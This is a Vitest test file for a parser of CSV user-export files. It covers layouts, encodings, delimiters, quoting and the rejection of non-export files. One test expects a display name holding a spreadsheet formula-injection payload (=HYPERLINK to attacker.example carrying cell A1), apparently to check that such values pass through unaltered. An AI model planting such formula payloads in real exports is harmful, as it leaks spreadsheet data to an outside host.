import { describe, expect, it } from 'vitest';
import {
  MAX_USERS_FILE_BYTES,
  detectCsvShape,
  findBrokenQuote,
  readUsersFile,
  readUsersText,
  type UsersFile,
} from '~/lib/exports';
import { DOMAIN, fixtureBytes } from './fixtures';

const encode = (text: string) => new TextEncoder().encode(text);

function read(text: string): UsersFile {
  const outcome = readUsersText(text);
  if (!outcome.ok) throw new Error(`not read: ${outcome.error.code} ${outcome.error.message}`);
  return outcome.file;
}

describe('the users download layouts (exports research A.2)', () => {
  it.each([
    ['exportUsers_2026-11-30.csv', 'graph', 29, 12, []],
    ['exportUsers_legacy-layout.csv', 'legacy', 26, 3, []],
    [
      'exportUsers_preview-default-view.csv',
      'preview',
      8,
      3,
      ['mail', 'givenName', 'surname', 'accountEnabled'],
    ],
    [
      'exportGroupMembers_2026-11-30.csv',
      'group-members',
      5,
      2,
      ['givenName', 'surname', 'accountEnabled', 'userType'],
    ],
  ])('%s: layout %s, %i columns, %i users, missing %j', (file, kind, columns, users, missing) => {
    const outcome = readUsersFile(fixtureBytes(file), { fileName: file });
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.file.layout.kind).toBe(kind);
    expect(outcome.file.layout.columns).toBe(columns);
    expect(outcome.file.users).toHaveLength(users);
    expect(outcome.file.missingColumns).toEqual(missing);
  });

  it('reads names in any script, quoted commas and doubled quotes unchanged', () => {
    const outcome = readUsersFile(fixtureBytes('exportUsers_2026-11-30.csv'));
    if (!outcome.ok) throw new Error(outcome.error.message);
    const names = outcome.file.users.map((user) => user.displayName);
    expect(names).toContain('Zoë Ångström');
    expect(names).toContain('李 伟');
    expect(names).toContain('O\'Connor, Siobhán "Shiv"');
    expect(names).toContain('=HYPERLINK("https://attacker.example/?d="&A1,"Marek Nowak")');
    const zoe = outcome.file.users.find((user) => user.givenName === 'Zoë');
    expect(zoe).toMatchObject({ surname: 'Ångström', accountEnabled: true, userType: 'Member' });
  });

  it('leaves out groups, devices and rows without a user principal name, and says how many', () => {
    const outcome = readUsersFile(fixtureBytes('exportGroupMembers_2026-11-30.csv'));
    if (!outcome.ok) throw new Error(outcome.error.message);
    expect(outcome.file.rowsLeftOut).toBe(2);
    expect(outcome.file.users.map((user) => user.userPrincipalName)).toEqual([
      `noor.haddad@${DOMAIN}`,
      `kofi.mensah@${DOMAIN}`,
    ]);
  });
});

describe('by header name, whatever the bytes look like', () => {
  const header = 'userPrincipalName,displayName,mail,givenName,surname,accountEnabled,userType';
  const row = `ana@${DOMAIN},Ana Souza,ana@${DOMAIN},Ana,Souza,True,Member`;

  it.each([
    ['LF', `${header}\n${row}\n`],
    ['CRLF', `${header}\r\n${row}\r\n`],
    ['CR only', `${header}\r${row}\r`],
    ['no final line end', `${header}\n${row}`],
    ['blank lines', `${header}\n\n${row}\n\n\n`],
    ['a UTF-8 byte order mark', `\uFEFF${header}\n${row}\n`],
    ['header case and spaces', `${header.toUpperCase().replaceAll(',', ' , ')}\n${row}\n`],
    [
      'another column order',
      `userType,mail,userPrincipalName,accountEnabled,surname,givenName,displayName\nMember,ana@${DOMAIN},ana@${DOMAIN},True,Souza,Ana,Ana Souza\n`,
    ],
    [
      'semicolons (a European spreadsheet)',
      `${header.replaceAll(',', ';')}\n${row.replaceAll(',', ';')}\n`,
    ],
    [
      'quoted values',
      `${header}\n"ana@${DOMAIN}","Ana Souza","ana@${DOMAIN}","Ana","Souza","True","Member"\n`,
    ],
  ])('%s', (_label, text) => {
    const file = read(text);
    expect(file.users).toEqual([
      {
        userPrincipalName: `ana@${DOMAIN}`,
        displayName: 'Ana Souza',
        mail: `ana@${DOMAIN}`,
        givenName: 'Ana',
        surname: 'Souza',
        accountEnabled: true,
        userType: 'Member',
        id: undefined,
      },
    ]);
    expect(file.missingColumns).toEqual([]);
  });

  it.each([
    [
      'UTF-8 with a byte order mark',
      new Uint8Array([
        0xef,
        0xbb,
        0xbf,
        ...encode('userPrincipalName,displayName\nzoe@x.example,Zoë\n'),
      ]),
    ],
    [
      'UTF-16 LE with a byte order mark',
      new Uint8Array([
        0xff,
        0xfe,
        ...new Uint8Array(
          new Uint16Array(
            [...'userPrincipalName,displayName\nzoe@x.example,Zoë\n'].map((char) =>
              char.charCodeAt(0),
            ),
          ).buffer,
        ),
      ]),
    ],
    [
      'Windows-1252 (saved by Excel)',
      new Uint8Array([...encode('userPrincipalName,displayName\nzoe@x.example,Zo'), 0xeb, 0x0a]),
    ],
  ])('decodes %s', (label, bytes) => {
    const outcome = readUsersFile(bytes);
    if (!outcome.ok) throw new Error(outcome.error.message);
    expect(outcome.file.users[0]?.displayName).toBe('Zoë');
    expect(outcome.file.encoding === 'windows-1252').toBe(label.startsWith('Windows'));
  });

  it('uses the first of two columns with one name, and aliases (objectId for id)', () => {
    const file = read(
      'objectId,userPrincipalName,mail,mail\nabc,ana@x.example,first@x.example,second@x.example\n',
    );
    expect(file.users[0]).toMatchObject({ id: 'abc', mail: 'first@x.example' });
  });

  it('reads True/False in any case, and an empty or odd cell as unknown', () => {
    const file = read(
      'userPrincipalName,accountEnabled\na@x.example,TRUE\nb@x.example,false\nc@x.example,\nd@x.example,Yes\n',
    );
    expect(file.users.map((user) => user.accountEnabled)).toEqual([
      true,
      false,
      undefined,
      undefined,
    ]);
  });

  it('keeps one row per user principal name (ignoring case) and counts the repeats', () => {
    const file = read(
      'userPrincipalName,mail\na@x.example,a@x.example\nA@X.example,a@x.example\nb@x.example,\n',
    );
    expect(file.users).toHaveLength(2);
    expect(file.duplicateRows).toBe(1);
  });

  it('reads short rows as empty cells', () => {
    const file = read('userPrincipalName,displayName,mail\na@x.example\n');
    expect(file.users[0]).toMatchObject({ displayName: '', mail: '' });
  });
});

describe('files that are not a users download', () => {
  it.each([
    ['an empty file', 'users-file-empty', new Uint8Array()],
    ['only blank lines', 'users-file-empty', encode('\r\n\r\n  \n')],
    ['an Excel workbook', 'users-file-spreadsheet', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1])],
    [
      'the bulk-create template',
      'users-file-bulk-template',
      fixtureBytes('bulk-create-template.csv'),
    ],
    ['the Microsoft 365 export', 'users-file-m365-export', fixtureBytes('m365-export-users.csv')],
    [
      'the provisioning-log CSV',
      'users-file-not-users-export',
      fixtureBytes('provisioning-logs-download.csv'),
    ],
    ['a JSON file', 'users-file-not-users-export', encode('[{"id":"1"}]')],
    ['broken quoting', 'users-file-broken-quotes', fixtureBytes('broken-quotes.csv')],
  ])('%s is refused with %s', (_label, code, bytes) => {
    const outcome = readUsersFile(bytes);
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) expect(outcome.error.code).toBe(code);
  });

  it('refuses a workbook by its name too', () => {
    const outcome = readUsersFile(encode('userPrincipalName\na@x.example\n'), {
      fileName: 'exportUsers_2026-7-13.xlsx',
    });
    expect(outcome.ok || outcome.error.code).toBe('users-file-spreadsheet');
  });

  it('refuses a file over the limit before reading it', () => {
    const outcome = readUsersFile(new Uint8Array(MAX_USERS_FILE_BYTES + 1));
    expect(outcome.ok || outcome.error.code).toBe('users-file-too-large');
  });

  it('names the line of a broken quote', () => {
    const outcome = readUsersText(
      'userPrincipalName,displayName\na@x.example,Ann\nb@x.example,"Bo"b\n',
    );
    expect(outcome.ok || outcome.error.message).toMatch(/^Line 3 /);
  });
});

describe('CSV shape and the quoting check', () => {
  it.each([
    ['a,b;c\n', ','],
    ['a;b;c\n', ';'],
    ['a\tb\tc\n', '\t'],
    ['"x;y;z",b\n', ','],
  ])('%j splits on %j', (text, delimiter) => {
    expect(detectCsvShape(text).delimiter).toBe(delimiter);
  });

  it.each([
    ['"a","b"\r\n"c","d"', undefined],
    ['"a ""quoted"" value",b\n', undefined],
    ['plain "inner" quotes,b\n', undefined],
    ['"multi\nline",b\n', undefined],
    ['"a"b,c\n', 1],
    ['x\n"unclosed,b\n', 2],
    ['x\n"a" ,b\n', 2],
  ])('%j: broken at %s', (text, line) => {
    expect(findBrokenQuote(text, detectCsvShape(text))).toBe(line);
  });
});
